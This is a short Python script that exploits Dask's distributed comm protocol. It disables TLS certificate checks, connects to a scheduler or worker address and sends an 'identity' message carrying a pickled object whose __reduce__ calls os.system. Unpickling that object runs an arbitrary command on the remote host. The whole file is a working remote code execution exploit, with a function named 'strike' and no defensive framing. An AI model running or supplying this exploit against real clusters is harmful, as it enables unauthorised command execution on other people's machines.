"""A program of another user's: it has Dask's scheduler or worker at an address unpickle what runs a command there.

Arguments: address, command, and, if it has one, its own certificate and key, as PEM.
"""

import asyncio
import os
import ssl
import sys
import tempfile

from distributed.comm import connect


class Command:
    """What it is pickled as is a call."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


async def strike(address: str, command: str, *certificate: str) -> None:
    anyone = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # whom it talks to is all the same to it
    anyone.check_hostname, anyone.verify_mode = False, ssl.CERT_NONE
    for pem in certificate:
        with tempfile.NamedTemporaryFile("w") as file:
            file.write(pem)
            file.flush()
            anyone.load_cert_chain(file.name)
    comm = await connect(address, timeout=5, ssl_context=anyone)
    await comm.write({"op": "identity", "reply": True, "more": Command(command)})
    print("answered:", await asyncio.wait_for(comm.read(), 5))


if __name__ == "__main__":
    try:
        asyncio.run(strike(*sys.argv[1:]))
    except (OSError, TimeoutError) as error:
        print(f"refused: {type(error).__name__} {error}")
